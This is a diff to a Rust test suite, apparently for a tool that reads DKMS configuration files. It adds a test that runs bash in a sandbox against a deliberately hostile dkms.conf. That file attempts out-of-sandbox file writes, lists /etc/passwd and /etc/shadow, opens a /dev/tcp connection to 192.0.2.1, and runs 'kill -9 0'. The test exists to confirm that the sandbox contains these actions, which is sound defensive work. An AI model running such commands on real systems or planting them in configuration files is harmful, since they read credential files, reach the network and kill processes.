@@ -45,14 +45,14 @@ enum Outcome {
 }
 
 /// The directives that kpkg reads, as the truth writes them: unknown is null.
-fn read(path: &Path, machine: &Machine) -> BTreeMap<String, Value> {
-    let (evaluation, _) = kpkg::build::read_conf(path, machine, ConfShell::Own, &Stop::default()).unwrap();
+fn read(path: &Path, machine: &Machine, shell: ConfShell) -> BTreeMap<String, Value> {
+    let (evaluation, _) = kpkg::build::read_conf(path, machine, shell, &Stop::default()).unwrap();
     let object = serde_json::to_value(evaluation.to_schema()).unwrap();
     object.as_object().unwrap().clone().into_iter().collect()
 }
 
-fn compare(path: &Path, machine: &Machine, truth: &Value) -> Outcome {
-    let read = read(path, machine);
+fn compare(path: &Path, machine: &Machine, shell: ConfShell, truth: &Value) -> Outcome {
+    let read = read(path, machine, shell);
     let mut outcome = Outcome::Same;
     for name in read.keys().chain(truth.as_object().unwrap().keys()) {
         let (got, want) = (read.get(name), truth.get(name));
@@ -102,7 +102,7 @@ fn every_edge_of_the_language_is_read_as_dkms_reads_it() {
             fs::write(&os_file, os_release).unwrap();
             let machine = machine(release, arch, headers(folder.path(), release), os_file);
             let want = kernels.get("*").or_else(|| kernels.get(release)).unwrap();
-            worst = worst.max(compare(&data.join("synthetic").join(id), &machine, want));
+            worst = worst.max(compare(&data.join("synthetic").join(id), &machine, ConfShell::Own, want));
         }
         assert!(worst != Outcome::Wrong, "{id}");
         if worst == Outcome::Unknown {
@@ -111,6 +111,47 @@ fn every_edge_of_the_language_is_read_as_dkms_reads_it() {
     }
     assert_eq!(unknown, UNKNOWN);
     assert_eq!(truth.as_object().unwrap().len(), fs::read_dir(data.join("synthetic")).unwrap().count());
+}
+
+/// bash itself, in the sandbox: it needs what `unshare` needs.
+#[test]
+fn bash_in_the_sandbox_reads_what_dkms_reads() {
+    let data = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/conf");
+    let truth: Value = serde_json::from_str(&fs::read_to_string(data.join("truth.json")).unwrap()).unwrap();
+    let folder = tempfile::tempdir().unwrap();
+    let os_file = folder.path().join("os-release");
+    let (release, arch, os_release) = MACHINES[0];
+    fs::write(&os_file, os_release).unwrap();
+    let machine = machine(release, arch, headers(folder.path(), release), os_file);
+    for (id, kernels) in truth.as_object().unwrap() {
+        let path = data.join("synthetic").join(id);
+        let want = kernels.get("*").or_else(|| kernels.get(release)).unwrap();
+        match id.as_str() {
+            // does not end
+            "loop_inf" => continue,
+            // lists the root, which has other names here
+            "glob_star" => assert!(read(&path, &machine, ConfShell::Bash)["MAKE"]["0"].is_string()),
+            _ => assert_eq!(compare(&path, &machine, ConfShell::Bash, want), Outcome::Same, "{id}"),
+        }
+    }
+    let hostile = folder.path().join("dkms.conf");
+    let written = folder.path().join("written");
+    let text = format!(
+        "PACKAGE_NAME=x\nPACKAGE_VERSION=$(perl -e 'print 6 * 7')\nDEST_MODULE_LOCATION=/extra\n\
+         echo x >{0}; echo x >/var/lib/dkms/x/written; mkdir -p /root/x\n\
+         MAKE=\"$(ls {1} /etc/passwd /etc/shadow /home 2>/dev/null; {{ echo > /dev/tcp/192.0.2.1/80; }} 2>&1 | grep -o 'unreachable' | head -n 1)\"\n",
+        written.display(),
+        folder.path().display()
+    );
+    fs::write(&hostile, text).unwrap();
+    let read_hostile = read(&hostile, &machine, ConfShell::Bash);
+    assert_eq!(read_hostile["PACKAGE_VERSION"], "42");
+    assert_eq!(read_hostile["MAKE"]["0"], "unreachable");
+    assert!(!written.exists());
+    // its caller's group is not the one of this test
+    fs::write(&hostile, "kill -9 0\n").unwrap();
+    let error = kpkg::build::read_conf(&hostile, &machine, ConfShell::Bash, &Stop::default()).unwrap_err();
+    assert!(error.to_string().starts_with("bash ended by a signal"), "{error}");
 }
 
 fn machine(release: &str, arch: &str, headers: PathBuf, os_release: PathBuf) -> Machine {
@@ -145,7 +186,7 @@ fn a_collection_of_real_files_has_no_wrong_value() {
                 machine(release, arch, harness.join("ktree").join(release), harness.join("osr").join(os));
             let truth = fs::read(folder.join(format!("dev/truth/{id}.{release}.json"))).unwrap();
             let truth: Value = serde_json::from_str(&String::from_utf8_lossy(&truth)).unwrap();
-            worst = worst.max(compare(&path, &machine, &truth["dkms"]));
+            worst = worst.max(compare(&path, &machine, ConfShell::Own, &truth["dkms"]));
         }
         match worst {
             Outcome::Same => same += 1,
